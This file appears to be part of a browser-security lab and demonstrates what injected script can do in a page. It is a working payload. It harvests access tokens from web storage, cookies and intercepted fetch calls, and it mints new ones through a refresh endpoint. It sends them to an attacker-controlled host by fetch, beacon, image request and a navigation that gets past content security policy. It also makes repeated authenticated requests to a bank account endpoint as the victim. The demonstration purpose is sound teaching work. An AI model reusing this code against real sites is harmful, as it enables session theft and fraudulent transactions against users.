/**
 * What injected script does once it runs in a page: look, listen, ask, carry away, and act. It is one of our own files and touches
 * only what the lab has put there (`lab_…`, and the lab bank's API); where script came from makes no difference to what it can do.
 */

const { thief, tag, run } = document.body.dataset;
const channel = new BroadcastChannel('lab-storage');
const tell = (what, facts = {}) => channel.postMessage({ run, what, ...facts });
const wait = (milliseconds) => new Promise((resolve) => { setTimeout(resolve, milliseconds); });

const csrf = () => document.cookie.split('; ').find((pair) => pair.startsWith('__Host-csrftoken='))?.split('=')[1] ?? '';

/** 1. Look: everything that script may read. */
async function look() {
  const seen = [
    ['localStorage', localStorage.getItem('lab_access_token')],
    ['sessionStorage', sessionStorage.getItem('lab_access_token')],
    ['document.cookie', document.cookie.split('; ').find((one) => one.startsWith('lab_token='))?.split('=')[1]],
    ['cookieStore', (await globalThis.cookieStore?.get('lab_token'))?.value],
  ].filter(([, token]) => token);
  return seen.length ? { where: seen.map(([where]) => where).join(' and '), token: seen[0][1] } : null;
}

/** 2. Listen: stand in front of fetch and wait for the page to use its token. */
function listen() {
  return new Promise((resolve) => {
    const original = globalThis.fetch;
    globalThis.fetch = (resource, options = {}) => {
      const [scheme, token] = (options.headers?.Authorization ?? '').split(' ');
      if (scheme === 'Bearer') resolve({ where: 'the page’s own fetch', token });
      return original(resource, options);
    };
    setTimeout(() => { globalThis.fetch = original; resolve(null); }, 1500);
  });
}

/** 3. Ask: the refresh endpoint cannot tell this script from the page's own. */
async function ask() {
  const response = await fetch('/bank/storage/refresh', { method: 'POST', headers: { 'X-CSRFToken': csrf() } });
  const { access_token: token } = await response.json();
  return token ? { where: 'the answer of the refresh endpoint', token } : null;
}

/** 4. Carry away: three ways, and where a policy blocks them all, the address bar. */
async function carry(token) {
  const blocked = new Set();
  addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI }) => {
    if (blockedURI.startsWith(thief)) { blocked.add(effectiveDirective); tell('blocked', { directive: effectiveDirective }); }
  });
  const to = (via) => `${thief}/loot?tag=${tag}&run=${run}&via=${via}`;
  const sent = await fetch(to('fetch'), { method: 'POST', mode: 'no-cors', body: token }).then(() => true, () => false);
  const promised = navigator.sendBeacon(to('beacon'), token);
  new Image().src = `${to('image')}&t=${token}`;
  await wait(500);
  if (sent || !blocked.size) return;
  tell('leaving', { promised });
  await ride({ token });
  tell('done');
  location.assign(`${to('navigation')}&t=${token}`); // no directive stops a page from being left
  await wait(5000);
}

/** 5. Act: pay as the victim, with the stolen token or with whatever the browser adds by itself. */
async function ride(found) {
  const headers = { 'X-CSRFToken': csrf(), ...(found ? { Authorization: `Bearer ${found.token}` } : {}) };
  const response = await fetch('/bank/account', { method: 'POST', headers });
  const { balance } = await response.json();
  tell('rode', { status: response.status, balance });
}

/** Again and again, for as long as this page is open. */
async function rideOn(found) {
  for (let times = 1; ; times += 1) {
    await ride(found).catch(() => {}); // the page may be closed at any moment
    if (times === 3) tell('done');
    await wait(700);
  }
}

const heard = listen();
const kept = await look();
const used = kept ? null : await heard;
const minted = kept ? null : await ask();
const found = kept ?? used ?? minted;
if (found) {
  const where = [kept, used, minted].filter(Boolean).map((one) => one.where).join(', and another in ');
  tell('read', { where, shown: `${found.token.slice(0, 8)}… (${found.token.length} characters)` });
  await carry(found.token);
} else {
  const jars = globalThis.cookieStore ? 'document.cookie, cookieStore' : 'document.cookie';
  tell('nothing-to-read', { looked: `localStorage, sessionStorage, ${jars}, fetch, the refresh endpoint` });
}
await rideOn(found);
